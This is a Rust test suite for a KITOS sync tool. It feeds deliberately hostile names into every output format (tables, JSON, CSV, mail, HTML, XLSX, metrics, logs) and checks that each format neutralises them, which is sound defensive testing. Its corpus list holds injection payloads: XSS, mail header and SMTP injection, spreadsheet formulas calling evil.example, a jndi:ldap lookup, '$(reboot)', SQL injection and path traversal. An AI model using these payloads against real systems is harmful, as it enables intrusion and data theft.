//! Whatever KITOS holds is text (`docs/reliability.md` R20; rows 68–72 of the fault
//! matrix): names that have broken other programs, as those of systems, people,
//! units, contracts and role types, through every output of the real program,
//! each judged by a parser of its format.

use std::collections::{BTreeMap, BTreeSet};

use kitos_standin::{OWNER_ROLE, World};
use mail_parser::{HeaderName, MessageParser, MimeHeaders};
use serde_json::Value;

use super::html::assert_strict;
use crate::support::workbook::{self, elements, unescaped};
use crate::support::zip;
use crate::support::{self, TestInstallation, files};

const SUNDAY: &str = "2026-03-01T12:00:00Z";
const MONDAY: &str = "2026-03-02T08:00:00Z";
const TUESDAY: &str = "2026-03-03T08:00:00Z";
/// A part of a hostile name that no word of the program holds.
const MARK: &str = "Qx7";

/// Each holds [`MARK`], so that it is found where it must not be.
fn corpus() -> Vec<String> {
    let short = [
        "<script>alert('Qx7')</script>",
        "\"><img src=x onerror=alert(1)>Qx7",
        "'><svg/onload=alert(1)>Qx7",
        "</td></table></body>Qx7",
        "<!-- Qx7",
        "]]>Qx7<![CDATA[",
        "&lt;b&gt;Qx7&amp;&#0;",
        "javascript:alert(1)//Qx7",
        "Qx7\r\nBcc: evil@example.org",
        "Qx7\nX-Evil: yes\n\n<b>body</b>",
        "Qx7\r\n.\r\nMAIL FROM:<evil@example.org>",
        "=?utf-8?Q?Qx7=0D=0ABcc:_evil@example.org?=",
        "=cmd|' /C calc'!A0 Qx7",
        "+1+1+Qx7",
        "-2+3-Qx7",
        "@SUM(1;1) Qx7",
        "\t=1+Qx7",
        "\r=1+Qx7",
        "=HYPERLINK(\"http://evil.example/?\"&A1;\"Qx7\")",
        "Qx7\u{1b}[31mrød\u{1b}]0;titel\u{7}\u{1b}[2J",
        "Qx7\u{9b}31m\u{85}ny linje\u{90}",
        "{{ 7 * 7 }}{% for x in y %}Qx7{# #}",
        "${jndi:ldap://evil.example/Qx7}",
        "%s%n%x Qx7 $(reboot) `reboot`",
        "Qx7 \u{202e}fdp.exe\u{2066}\u{200f}",
        "مرحبا Qx7 שלום",
        "👩‍👩‍👧‍👦 Qx7 🇩🇰",
        "Q̴̢̛x̷7 Qx7",
        "Qx7\u{0}nul",
        "Qx7\u{2028}linje\u{2029}afsnit\u{feff}\u{200b}",
        "'; DROP TABLE person; -- Qx7",
        "Qx7;\"citat\";,\\",
        "../../../etc/passwd Qx7",
        "  Qx7  ",
    ];
    let mut all: Vec<String> = short.map(str::to_owned).into();
    all.push(format!("Qx7{}", "x".repeat(10_000)));
    all.push(format!("Qx7{}", "\n".repeat(1_000)));
    all.push(format!("Qx7 {}", "👩‍💻".repeat(2_000)));
    all
}

/// A municipality in which everything is named so, read on Sunday; until Monday
/// much changes, and a digest goes out. Then all owners vanish, which is held.
fn installation() -> TestInstallation {
    let names = corpus();
    let installation = TestInstallation::new(World::generate(7, names.len()));
    installation.standin().edit(|world| hostile(world, &names));
    let run = installation.run_at(SUNDAY, &["sync"]);
    assert_eq!(run.code, 0, "{run:#?}");
    installation.standin().edit(|world| {
        let usages: Vec<_> = world.our_usages().map(|usage| usage.uuid).collect();
        let user = world.our_users().next().expect("a user").uuid;
        for (usage, name) in usages.iter().zip(&names).take(8) {
            world.acquire(&format!("{name} ny"), Some(user));
            world.change(*usage, |usage| usage.local_name = Some(format!("{name} anders")));
        }
        world.set_life_cycle(usages[9], Some("NotInUse"));
        world.set_life_cycle(usages[10], Some("Qx7\r\nukendt"));
        world.remove_usage(usages[11]);
        world.remove_owners(usages[12]);
    });
    let run = installation.run_at(MONDAY, &["run", "--once"]);
    assert_eq!(run.code, 0, "{run:#?}");
    installation
}

fn hostile(world: &mut World, names: &[String]) {
    let usages: Vec<_> = world.our_usages().map(|usage| (usage.uuid, usage.system)).collect();
    for ((usage, system), name) in usages.iter().zip(names) {
        world.rename_system(*system, name);
        // Half of them by their local name.
        if name.len() % 2 == 0 {
            world.change(*usage, |usage| usage.local_name = Some(name.clone()));
        }
    }
    let ours = world.organization;
    for (user, name) in world.users.iter_mut().filter(|u| u.organization == ours).zip(names) {
        user.first_name.clone_from(name);
    }
    for (unit, name) in world.units.iter_mut().filter(|u| u.organization == ours).zip(names) {
        unit.name.clone_from(name);
    }
    for (contract, name) in world.contracts.iter_mut().zip(names) {
        contract.name.clone_from(name);
        contract.supplier = Some(name.clone());
    }
    for (registration, name) in world.registrations.iter_mut().zip(names) {
        registration.name.clone_from(name);
    }
    for (role, name) in world.role_types.iter_mut().filter(|r| r.name != OWNER_ROLE).zip(names) {
        role.name.clone_from(name);
    }
    for organization in world.organizations.iter_mut().filter(|row| row.uuid == ours) {
        organization.name = "Qx7 <b>Kommune</b>\r\nBcc: evil@example.org".to_owned();
    }
}

/// What lists things.
const LISTS: [&[&str]; 7] = [
    &["systems"],
    &["people"],
    &["units"],
    &["findings", "--state", "all"],
    &["findings", "--as-of", "2026-03-01"],
    &["changes"],
    &["mail", "list", "--all"],
];

/// What tells of one thing, the systems apart.
const SINGLE: [&[&str]; 6] = [
    &["status"],
    &["digest"],
    &["mail", "show", "1"],
    &["mail", "preview", "digest"],
    &["guard", "show"],
    &["sync", "--dry-run"],
];

fn steers(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}' | '\u{2029}'
            | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_calm(what: &str, text: &str) {
    if let Some(at) = text.find(steers) {
        panic!("{what}: {:?}", &text[at..].chars().take(80).collect::<String>());
    }
}

fn run(installation: &TestInstallation, format: &str, command: &[&str]) -> support::Run {
    let mut arguments = vec!["--format", format];
    arguments.extend(command);
    installation.run_at(TUESDAY, &arguments)
}

#[test]
fn tables_hold_no_control_character() {
    let installation = installation();
    let systems = run(&installation, "json", &["systems"]).stdout;
    let systems: Value = serde_json::from_str(&systems).expect("JSON");
    let uuids: Vec<String> = systems
        .as_array()
        .expect("a list")
        .iter()
        .map(|row| row["systemUsageUuid"].as_str().expect("a uuid").to_owned())
        .collect();
    let each: Vec<Vec<&str>> = uuids.iter().map(|uuid| vec!["system", uuid.as_str()]).collect();
    let commands = LISTS.iter().chain(&SINGLE).map(|command| command.to_vec());
    let mut shown = 0;
    for command in commands.chain(each) {
        let done = run(&installation, "table", &command);
        assert!(matches!(done.code, 0 | 3 | 4), "{command:?}: {done:#?}");
        assert_calm(&format!("{command:?}"), &done.stdout);
        assert_calm(&format!("{command:?}"), &done.stderr);
        shown += usize::from(done.stdout.contains(MARK));
        for line in done.stdout.lines() {
            assert!(line.chars().count() < 700, "{command:?}: {line}");
            assert!(!line.starts_with("X-Evil") && !line.starts_with("Bcc:"), "{command:?}");
        }
    }
    assert!(shown > uuids.len(), "the names are there at all");
    // Part of a name that many have: all of them are in the message.
    let many = run(&installation, "table", &["system", "qx"]);
    assert_eq!(many.code, 2, "{many:#?}");
    assert_calm("system qx", &many.stderr);
    assert_eq!(many.stderr.lines().count(), 11, "a line each: {}", many.stderr);

    installation.standin().edit(|world| {
        for usage in world.our_usages().map(|usage| usage.uuid).collect::<Vec<_>>() {
            world.remove_owners(usage);
        }
    });
    for command in [&["sync"][..], &["guard", "show"], &["status"], &["sync", "--dry-run"]] {
        let done = run(&installation, "table", command);
        assert!(matches!(done.code, 0 | 4), "{command:?}: {done:#?}");
        assert_calm(&format!("{command:?}"), &done.stdout);
    }
}

#[test]
fn json_gives_back_what_kitos_holds() {
    let installation = installation();
    for command in LISTS.iter().chain(&SINGLE) {
        let done = run(&installation, "json", command);
        assert!(matches!(done.code, 0 | 3 | 4), "{command:?}: {done:#?}");
        let value: Value = serde_json::from_str(&done.stdout).expect("one JSON value");
        assert_eq!(value.is_array(), LISTS.contains(command), "{command:?}");
        let raw = done.stdout.chars().find(|c| *c != '\n' && c.is_ascii_control());
        assert_eq!(raw, None, "{command:?}: escaped in JSON");
    }
    let systems = run(&installation, "json", &["systems"]).stdout;
    let systems: Value = serde_json::from_str(&systems).expect("JSON");
    let told: BTreeSet<&str> = systems
        .as_array()
        .expect("a list")
        .iter()
        .map(|row| row["systemName"].as_str().expect("a name"))
        .collect();
    let world = installation.standin().world();
    for usage in world.our_usages() {
        // Blanks around a name are typing; all else is the name.
        let name = world.usage_name(usage.uuid).trim();
        assert!(told.contains(name), "{name:?}");
    }
}

#[test]
fn csv_has_as_many_cells_as_headings_and_no_formula() {
    let installation = installation();
    for command in LISTS {
        let done = run(&installation, "csv", command);
        assert_eq!(done.code, 0, "{command:?}: {done:#?}");
        let text = done.stdout.strip_prefix('\u{feff}').expect("a byte order mark");
        // Not flexible: a row with a cell too many is an error.
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
        let mut rows = 0;
        for record in reader.records() {
            let record = record.unwrap_or_else(|error| panic!("{command:?}: {error}"));
            for cell in &record {
                assert_calm(&format!("{command:?}"), cell);
                let first = cell.chars().next();
                assert!(!matches!(first, Some('=' | '+' | '-' | '@')), "{command:?}: {cell}");
                assert!(cell.chars().count() <= 301, "{command:?}: {cell}");
            }
            rows += 1;
        }
        assert!(rows > 0, "{command:?}");
        assert!(command[0] == "mail" || text.contains(MARK), "{command:?}");
    }
}

#[test]
fn mails_keep_their_headers_and_html_runs_nothing() {
    let installation = installation();
    let mut mails = files(&installation.previews());
    mails.retain(|path| path.extension().is_some_and(|ending| ending == "eml"));
    assert!(mails.len() >= 2, "{mails:?}");
    let url = installation.standin().url();
    for path in mails {
        let name = path.file_name().expect("a name").to_string_lossy().into_owned();
        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.');
        assert!(name.chars().all(plain) && !name.contains(MARK), "{name}");
        let bytes = std::fs::read(&path).expect("the mail");
        assert!(bytes.is_ascii(), "{name}");
        let text = String::from_utf8(bytes.clone()).expect("ASCII");
        assert!(text.split("\r\n").all(|line| line.len() < 998 && !line.contains(['\r', '\n'])));
        let mail = MessageParser::default().parse(&bytes).expect("a mail");
        let headers: BTreeSet<String> =
            mail.headers().iter().map(|header| header.name().to_owned()).collect();
        let allowed = [
            "From",
            "To",
            "Reply-To",
            "Subject",
            "Date",
            "Message-ID",
            "MIME-Version",
            "Content-Type",
            "Auto-Submitted",
            "X-Auto-Response-Suppress",
            "List-Id",
        ];
        for header in &headers {
            assert!(allowed.iter().any(|a| a.eq_ignore_ascii_case(header)), "{name}: {header}");
        }
        assert_eq!(headers.len(), mail.headers().len(), "{name}: a header twice");
        assert!(mail.header(HeaderName::Bcc).is_none());
        let to: Vec<_> = mail.to().expect("To").iter().filter_map(|a| a.address()).collect();
        assert!(to.iter().all(|to| to.ends_with("@kommune.example")), "{name}: {to:?}");
        let subject = mail.subject().expect("a subject");
        assert_calm(&name, subject);
        assert!(subject.chars().count() <= 60, "{name}: {subject}");
        let words = mail.body_text(0).expect("a text");
        assert_calm(&name, &words.replace("\r\n", "\n"));
        let page = mail.body_html(0).expect("HTML");
        assert_calm(&name, &page.replace("\r\n", "\n"));
        assert_strict(&name, &page, MARK, &url);
        assert!(words.contains(MARK) && page.contains(MARK), "{name}");
        assert!(!words.contains("49") || !words.contains("Qx7 49"), "a template was run");
    }
}

#[test]
fn the_list_of_previews_is_calm_html() {
    let installation = installation();
    let page = std::fs::read_to_string(installation.previews().join("index.html")).expect("a page");
    assert_calm("index", &page);
    // Every link is to a mail beside it, named by us.
    assert_strict("index", &page, MARK, "2026-03-0");
    assert!(page.contains("<a href=\"2026-03-0"), "{page}");
}

#[test]
fn the_report_is_calm_html_and_its_workbook_holds_text() {
    let installation = installation();
    let (page, book) = (installation.path("r.html"), installation.path("r.xlsx"));
    for file in [&page, &book] {
        let file = file.to_str().expect("a name");
        let run = installation.run_at(MONDAY, &["report", "--output", file]);
        assert_eq!(run.code, 0, "{run:#?}");
    }
    let page = std::fs::read_to_string(page).expect("a page");
    assert_calm("report", &page);
    assert!(page.contains(MARK));
    assert_strict("report", &page, MARK, "#");
    let mut marked = 0;
    for (sheet, rows) in workbook::read(&std::fs::read(book).expect("a workbook")) {
        for cell in rows.iter().flatten() {
            assert_calm(&sheet, cell);
            marked += usize::from(cell.contains(MARK));
        }
    }
    assert!(marked > 10, "the names are there at all: {marked}");
}

#[test]
fn the_spreadsheet_of_the_digest_holds_text_and_no_formula() {
    let installation = installation();
    let world = installation.standin().world();
    // Without what is taken out on purpose, a cell begins as its name does.
    let bare = |text: &str| text.chars().filter(char::is_ascii_alphanumeric).collect::<String>();
    let names: BTreeSet<String> =
        world.our_usages().map(|usage| bare(world.usage_name(usage.uuid))).collect();
    let mut marked = 0;
    for path in files(&installation.previews()) {
        if !path.to_string_lossy().ends_with("digest.eml") {
            continue;
        }
        let bytes = std::fs::read(&path).expect("the mail");
        let mail = MessageParser::default().parse(&bytes).expect("a mail");
        for attachment in mail.attachments() {
            assert!(attachment.attachment_name().expect("a name").ends_with(".xlsx"));
            let parts = zip::unzipped(attachment.contents());
            for (name, part) in &parts {
                assert!(!part.contains("TargetMode") && !name.contains(MARK), "{name}: {part}");
            }
            for row in rows(&parts) {
                for (column, text) in &row {
                    assert_calm(column, text);
                    assert!(text.chars().count() <= 1_001, "{column}: {text}");
                    marked += usize::from(text.contains(MARK));
                }
                let system = bare(&row["A"]);
                assert!(names.iter().any(|name| name.starts_with(&system)), "{row:?}");
                assert!(row["L"].starts_with(&installation.standin().url()), "{row:?}");
            }
        }
    }
    assert!(marked > 10, "the names are there at all: {marked}");
}

/// The rows under the heading, by column. The dates and the two counts are
/// numbers; every other cell is text, whatever it looks like.
fn rows(parts: &BTreeMap<String, String>) -> Vec<BTreeMap<String, String>> {
    let texts: Vec<String> = elements(&parts["xl/sharedStrings.xml"], "si")
        .into_iter()
        .map(|(_, inside)| elements(inside, "t").into_iter().map(|(_, t)| unescaped(t)).collect())
        .collect();
    let sheet = &parts["xl/worksheets/sheet1.xml"];
    let mut read = Vec::new();
    for (_, row) in elements(sheet, "row").into_iter().skip(1) {
        let mut cells = BTreeMap::new();
        for (attributes, inside) in elements(row, "c") {
            let attribute = |name: &str| {
                let (_, rest) = attributes.split_once(&format!(" {name}=\""))?;
                Some(rest.split_once('"').expect("a closing quote").0)
            };
            let column = attribute("r").expect("a place").trim_end_matches(char::is_numeric);
            let value = inside.strip_prefix("<v>").and_then(|v| v.strip_suffix("</v>"));
            let Some(value) = value else {
                assert_eq!(inside, "", "{column}: neither empty nor a value");
                continue;
            };
            if ["G", "H", "I", "J"].contains(&column) {
                assert_eq!(attribute("t"), None, "{column}");
                value.parse::<f64>().expect("a number");
            } else {
                assert_eq!(attribute("t"), Some("s"), "{column}: text");
                let text = texts[value.parse::<usize>().expect("an index")].clone();
                cells.insert(column.to_owned(), text);
            }
        }
        read.push(cells);
    }
    assert!(!read.is_empty(), "{sheet}");
    read
}

#[test]
fn the_metrics_keep_their_format_and_hold_no_name() {
    let installation = installation();
    let file = installation.path("kitos-sync.prom");
    installation.configure(&format!("[metrics]\ntextfile = '{}'\n", file.display()));
    let run = installation.run_at(TUESDAY, &["run", "--once"]);
    assert_eq!(run.code, 0, "{run:#?}");
    let text = std::fs::read_to_string(&file).expect("the textfile");
    assert!(!text.contains(MARK) && text.ends_with('\n'), "{text}");
    let name = |name: &str| {
        assert!(name.starts_with("kitos_sync_"), "{name}");
        assert!(name.chars().all(|c| c.is_ascii_lowercase() || c == '_'), "{name}");
    };
    let mut seen = BTreeSet::new();
    for line in text.lines() {
        if let Some(comment) = line.strip_prefix("# ") {
            let mut words = comment.splitn(3, ' ');
            let (kind, of, rest) = (words.next(), words.next(), words.next());
            name(of.expect("a name"));
            assert!(
                kind == Some("HELP") || (kind, rest) == (Some("TYPE"), Some("gauge")),
                "{line}"
            );
            continue;
        }
        let (sample, value) = line.rsplit_once(' ').expect("a value");
        value.parse::<f64>().expect("a number");
        let (of, labels) = sample.split_once('{').unwrap_or((sample, "}"));
        name(of);
        let labels = labels.strip_suffix('}').expect("an end of the labels");
        for label in labels.split(',').filter(|label| !label.is_empty()) {
            let (key, quoted) = label.split_once("=\"").expect("a label");
            let value = quoted.strip_suffix('"').expect("a closing quote");
            assert!(key.chars().all(|c| c.is_ascii_lowercase()), "{line}");
            let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.');
            assert!(value.chars().all(plain), "{line}");
        }
        assert!(seen.insert(sample), "{sample} twice");
    }
    assert!(seen.len() > 20, "{text}");
}

#[test]
fn logs_keep_their_lines() {
    let installation = installation();
    for command in [&["-vvv", "run", "--once"][..], &["-vvv", "sync"], &["-vvv", "check"]] {
        let done = installation.run_at(TUESDAY, command);
        let mut lines = 0;
        for line in done.stderr.lines() {
            assert_calm(&format!("{command:?}"), line);
            // R21: uuids and counts, no names.
            assert!(!line.contains(MARK), "{command:?}: {line}");
            let begins =
                line.get(..5).is_some_and(|year| year.starts_with("20") && year.ends_with('-'));
            assert!(begins, "{command:?}: not a line of the log: {line}");
            lines += 1;
        }
        assert!(lines > 0 || command[1] == "check", "{command:?}");
    }
}
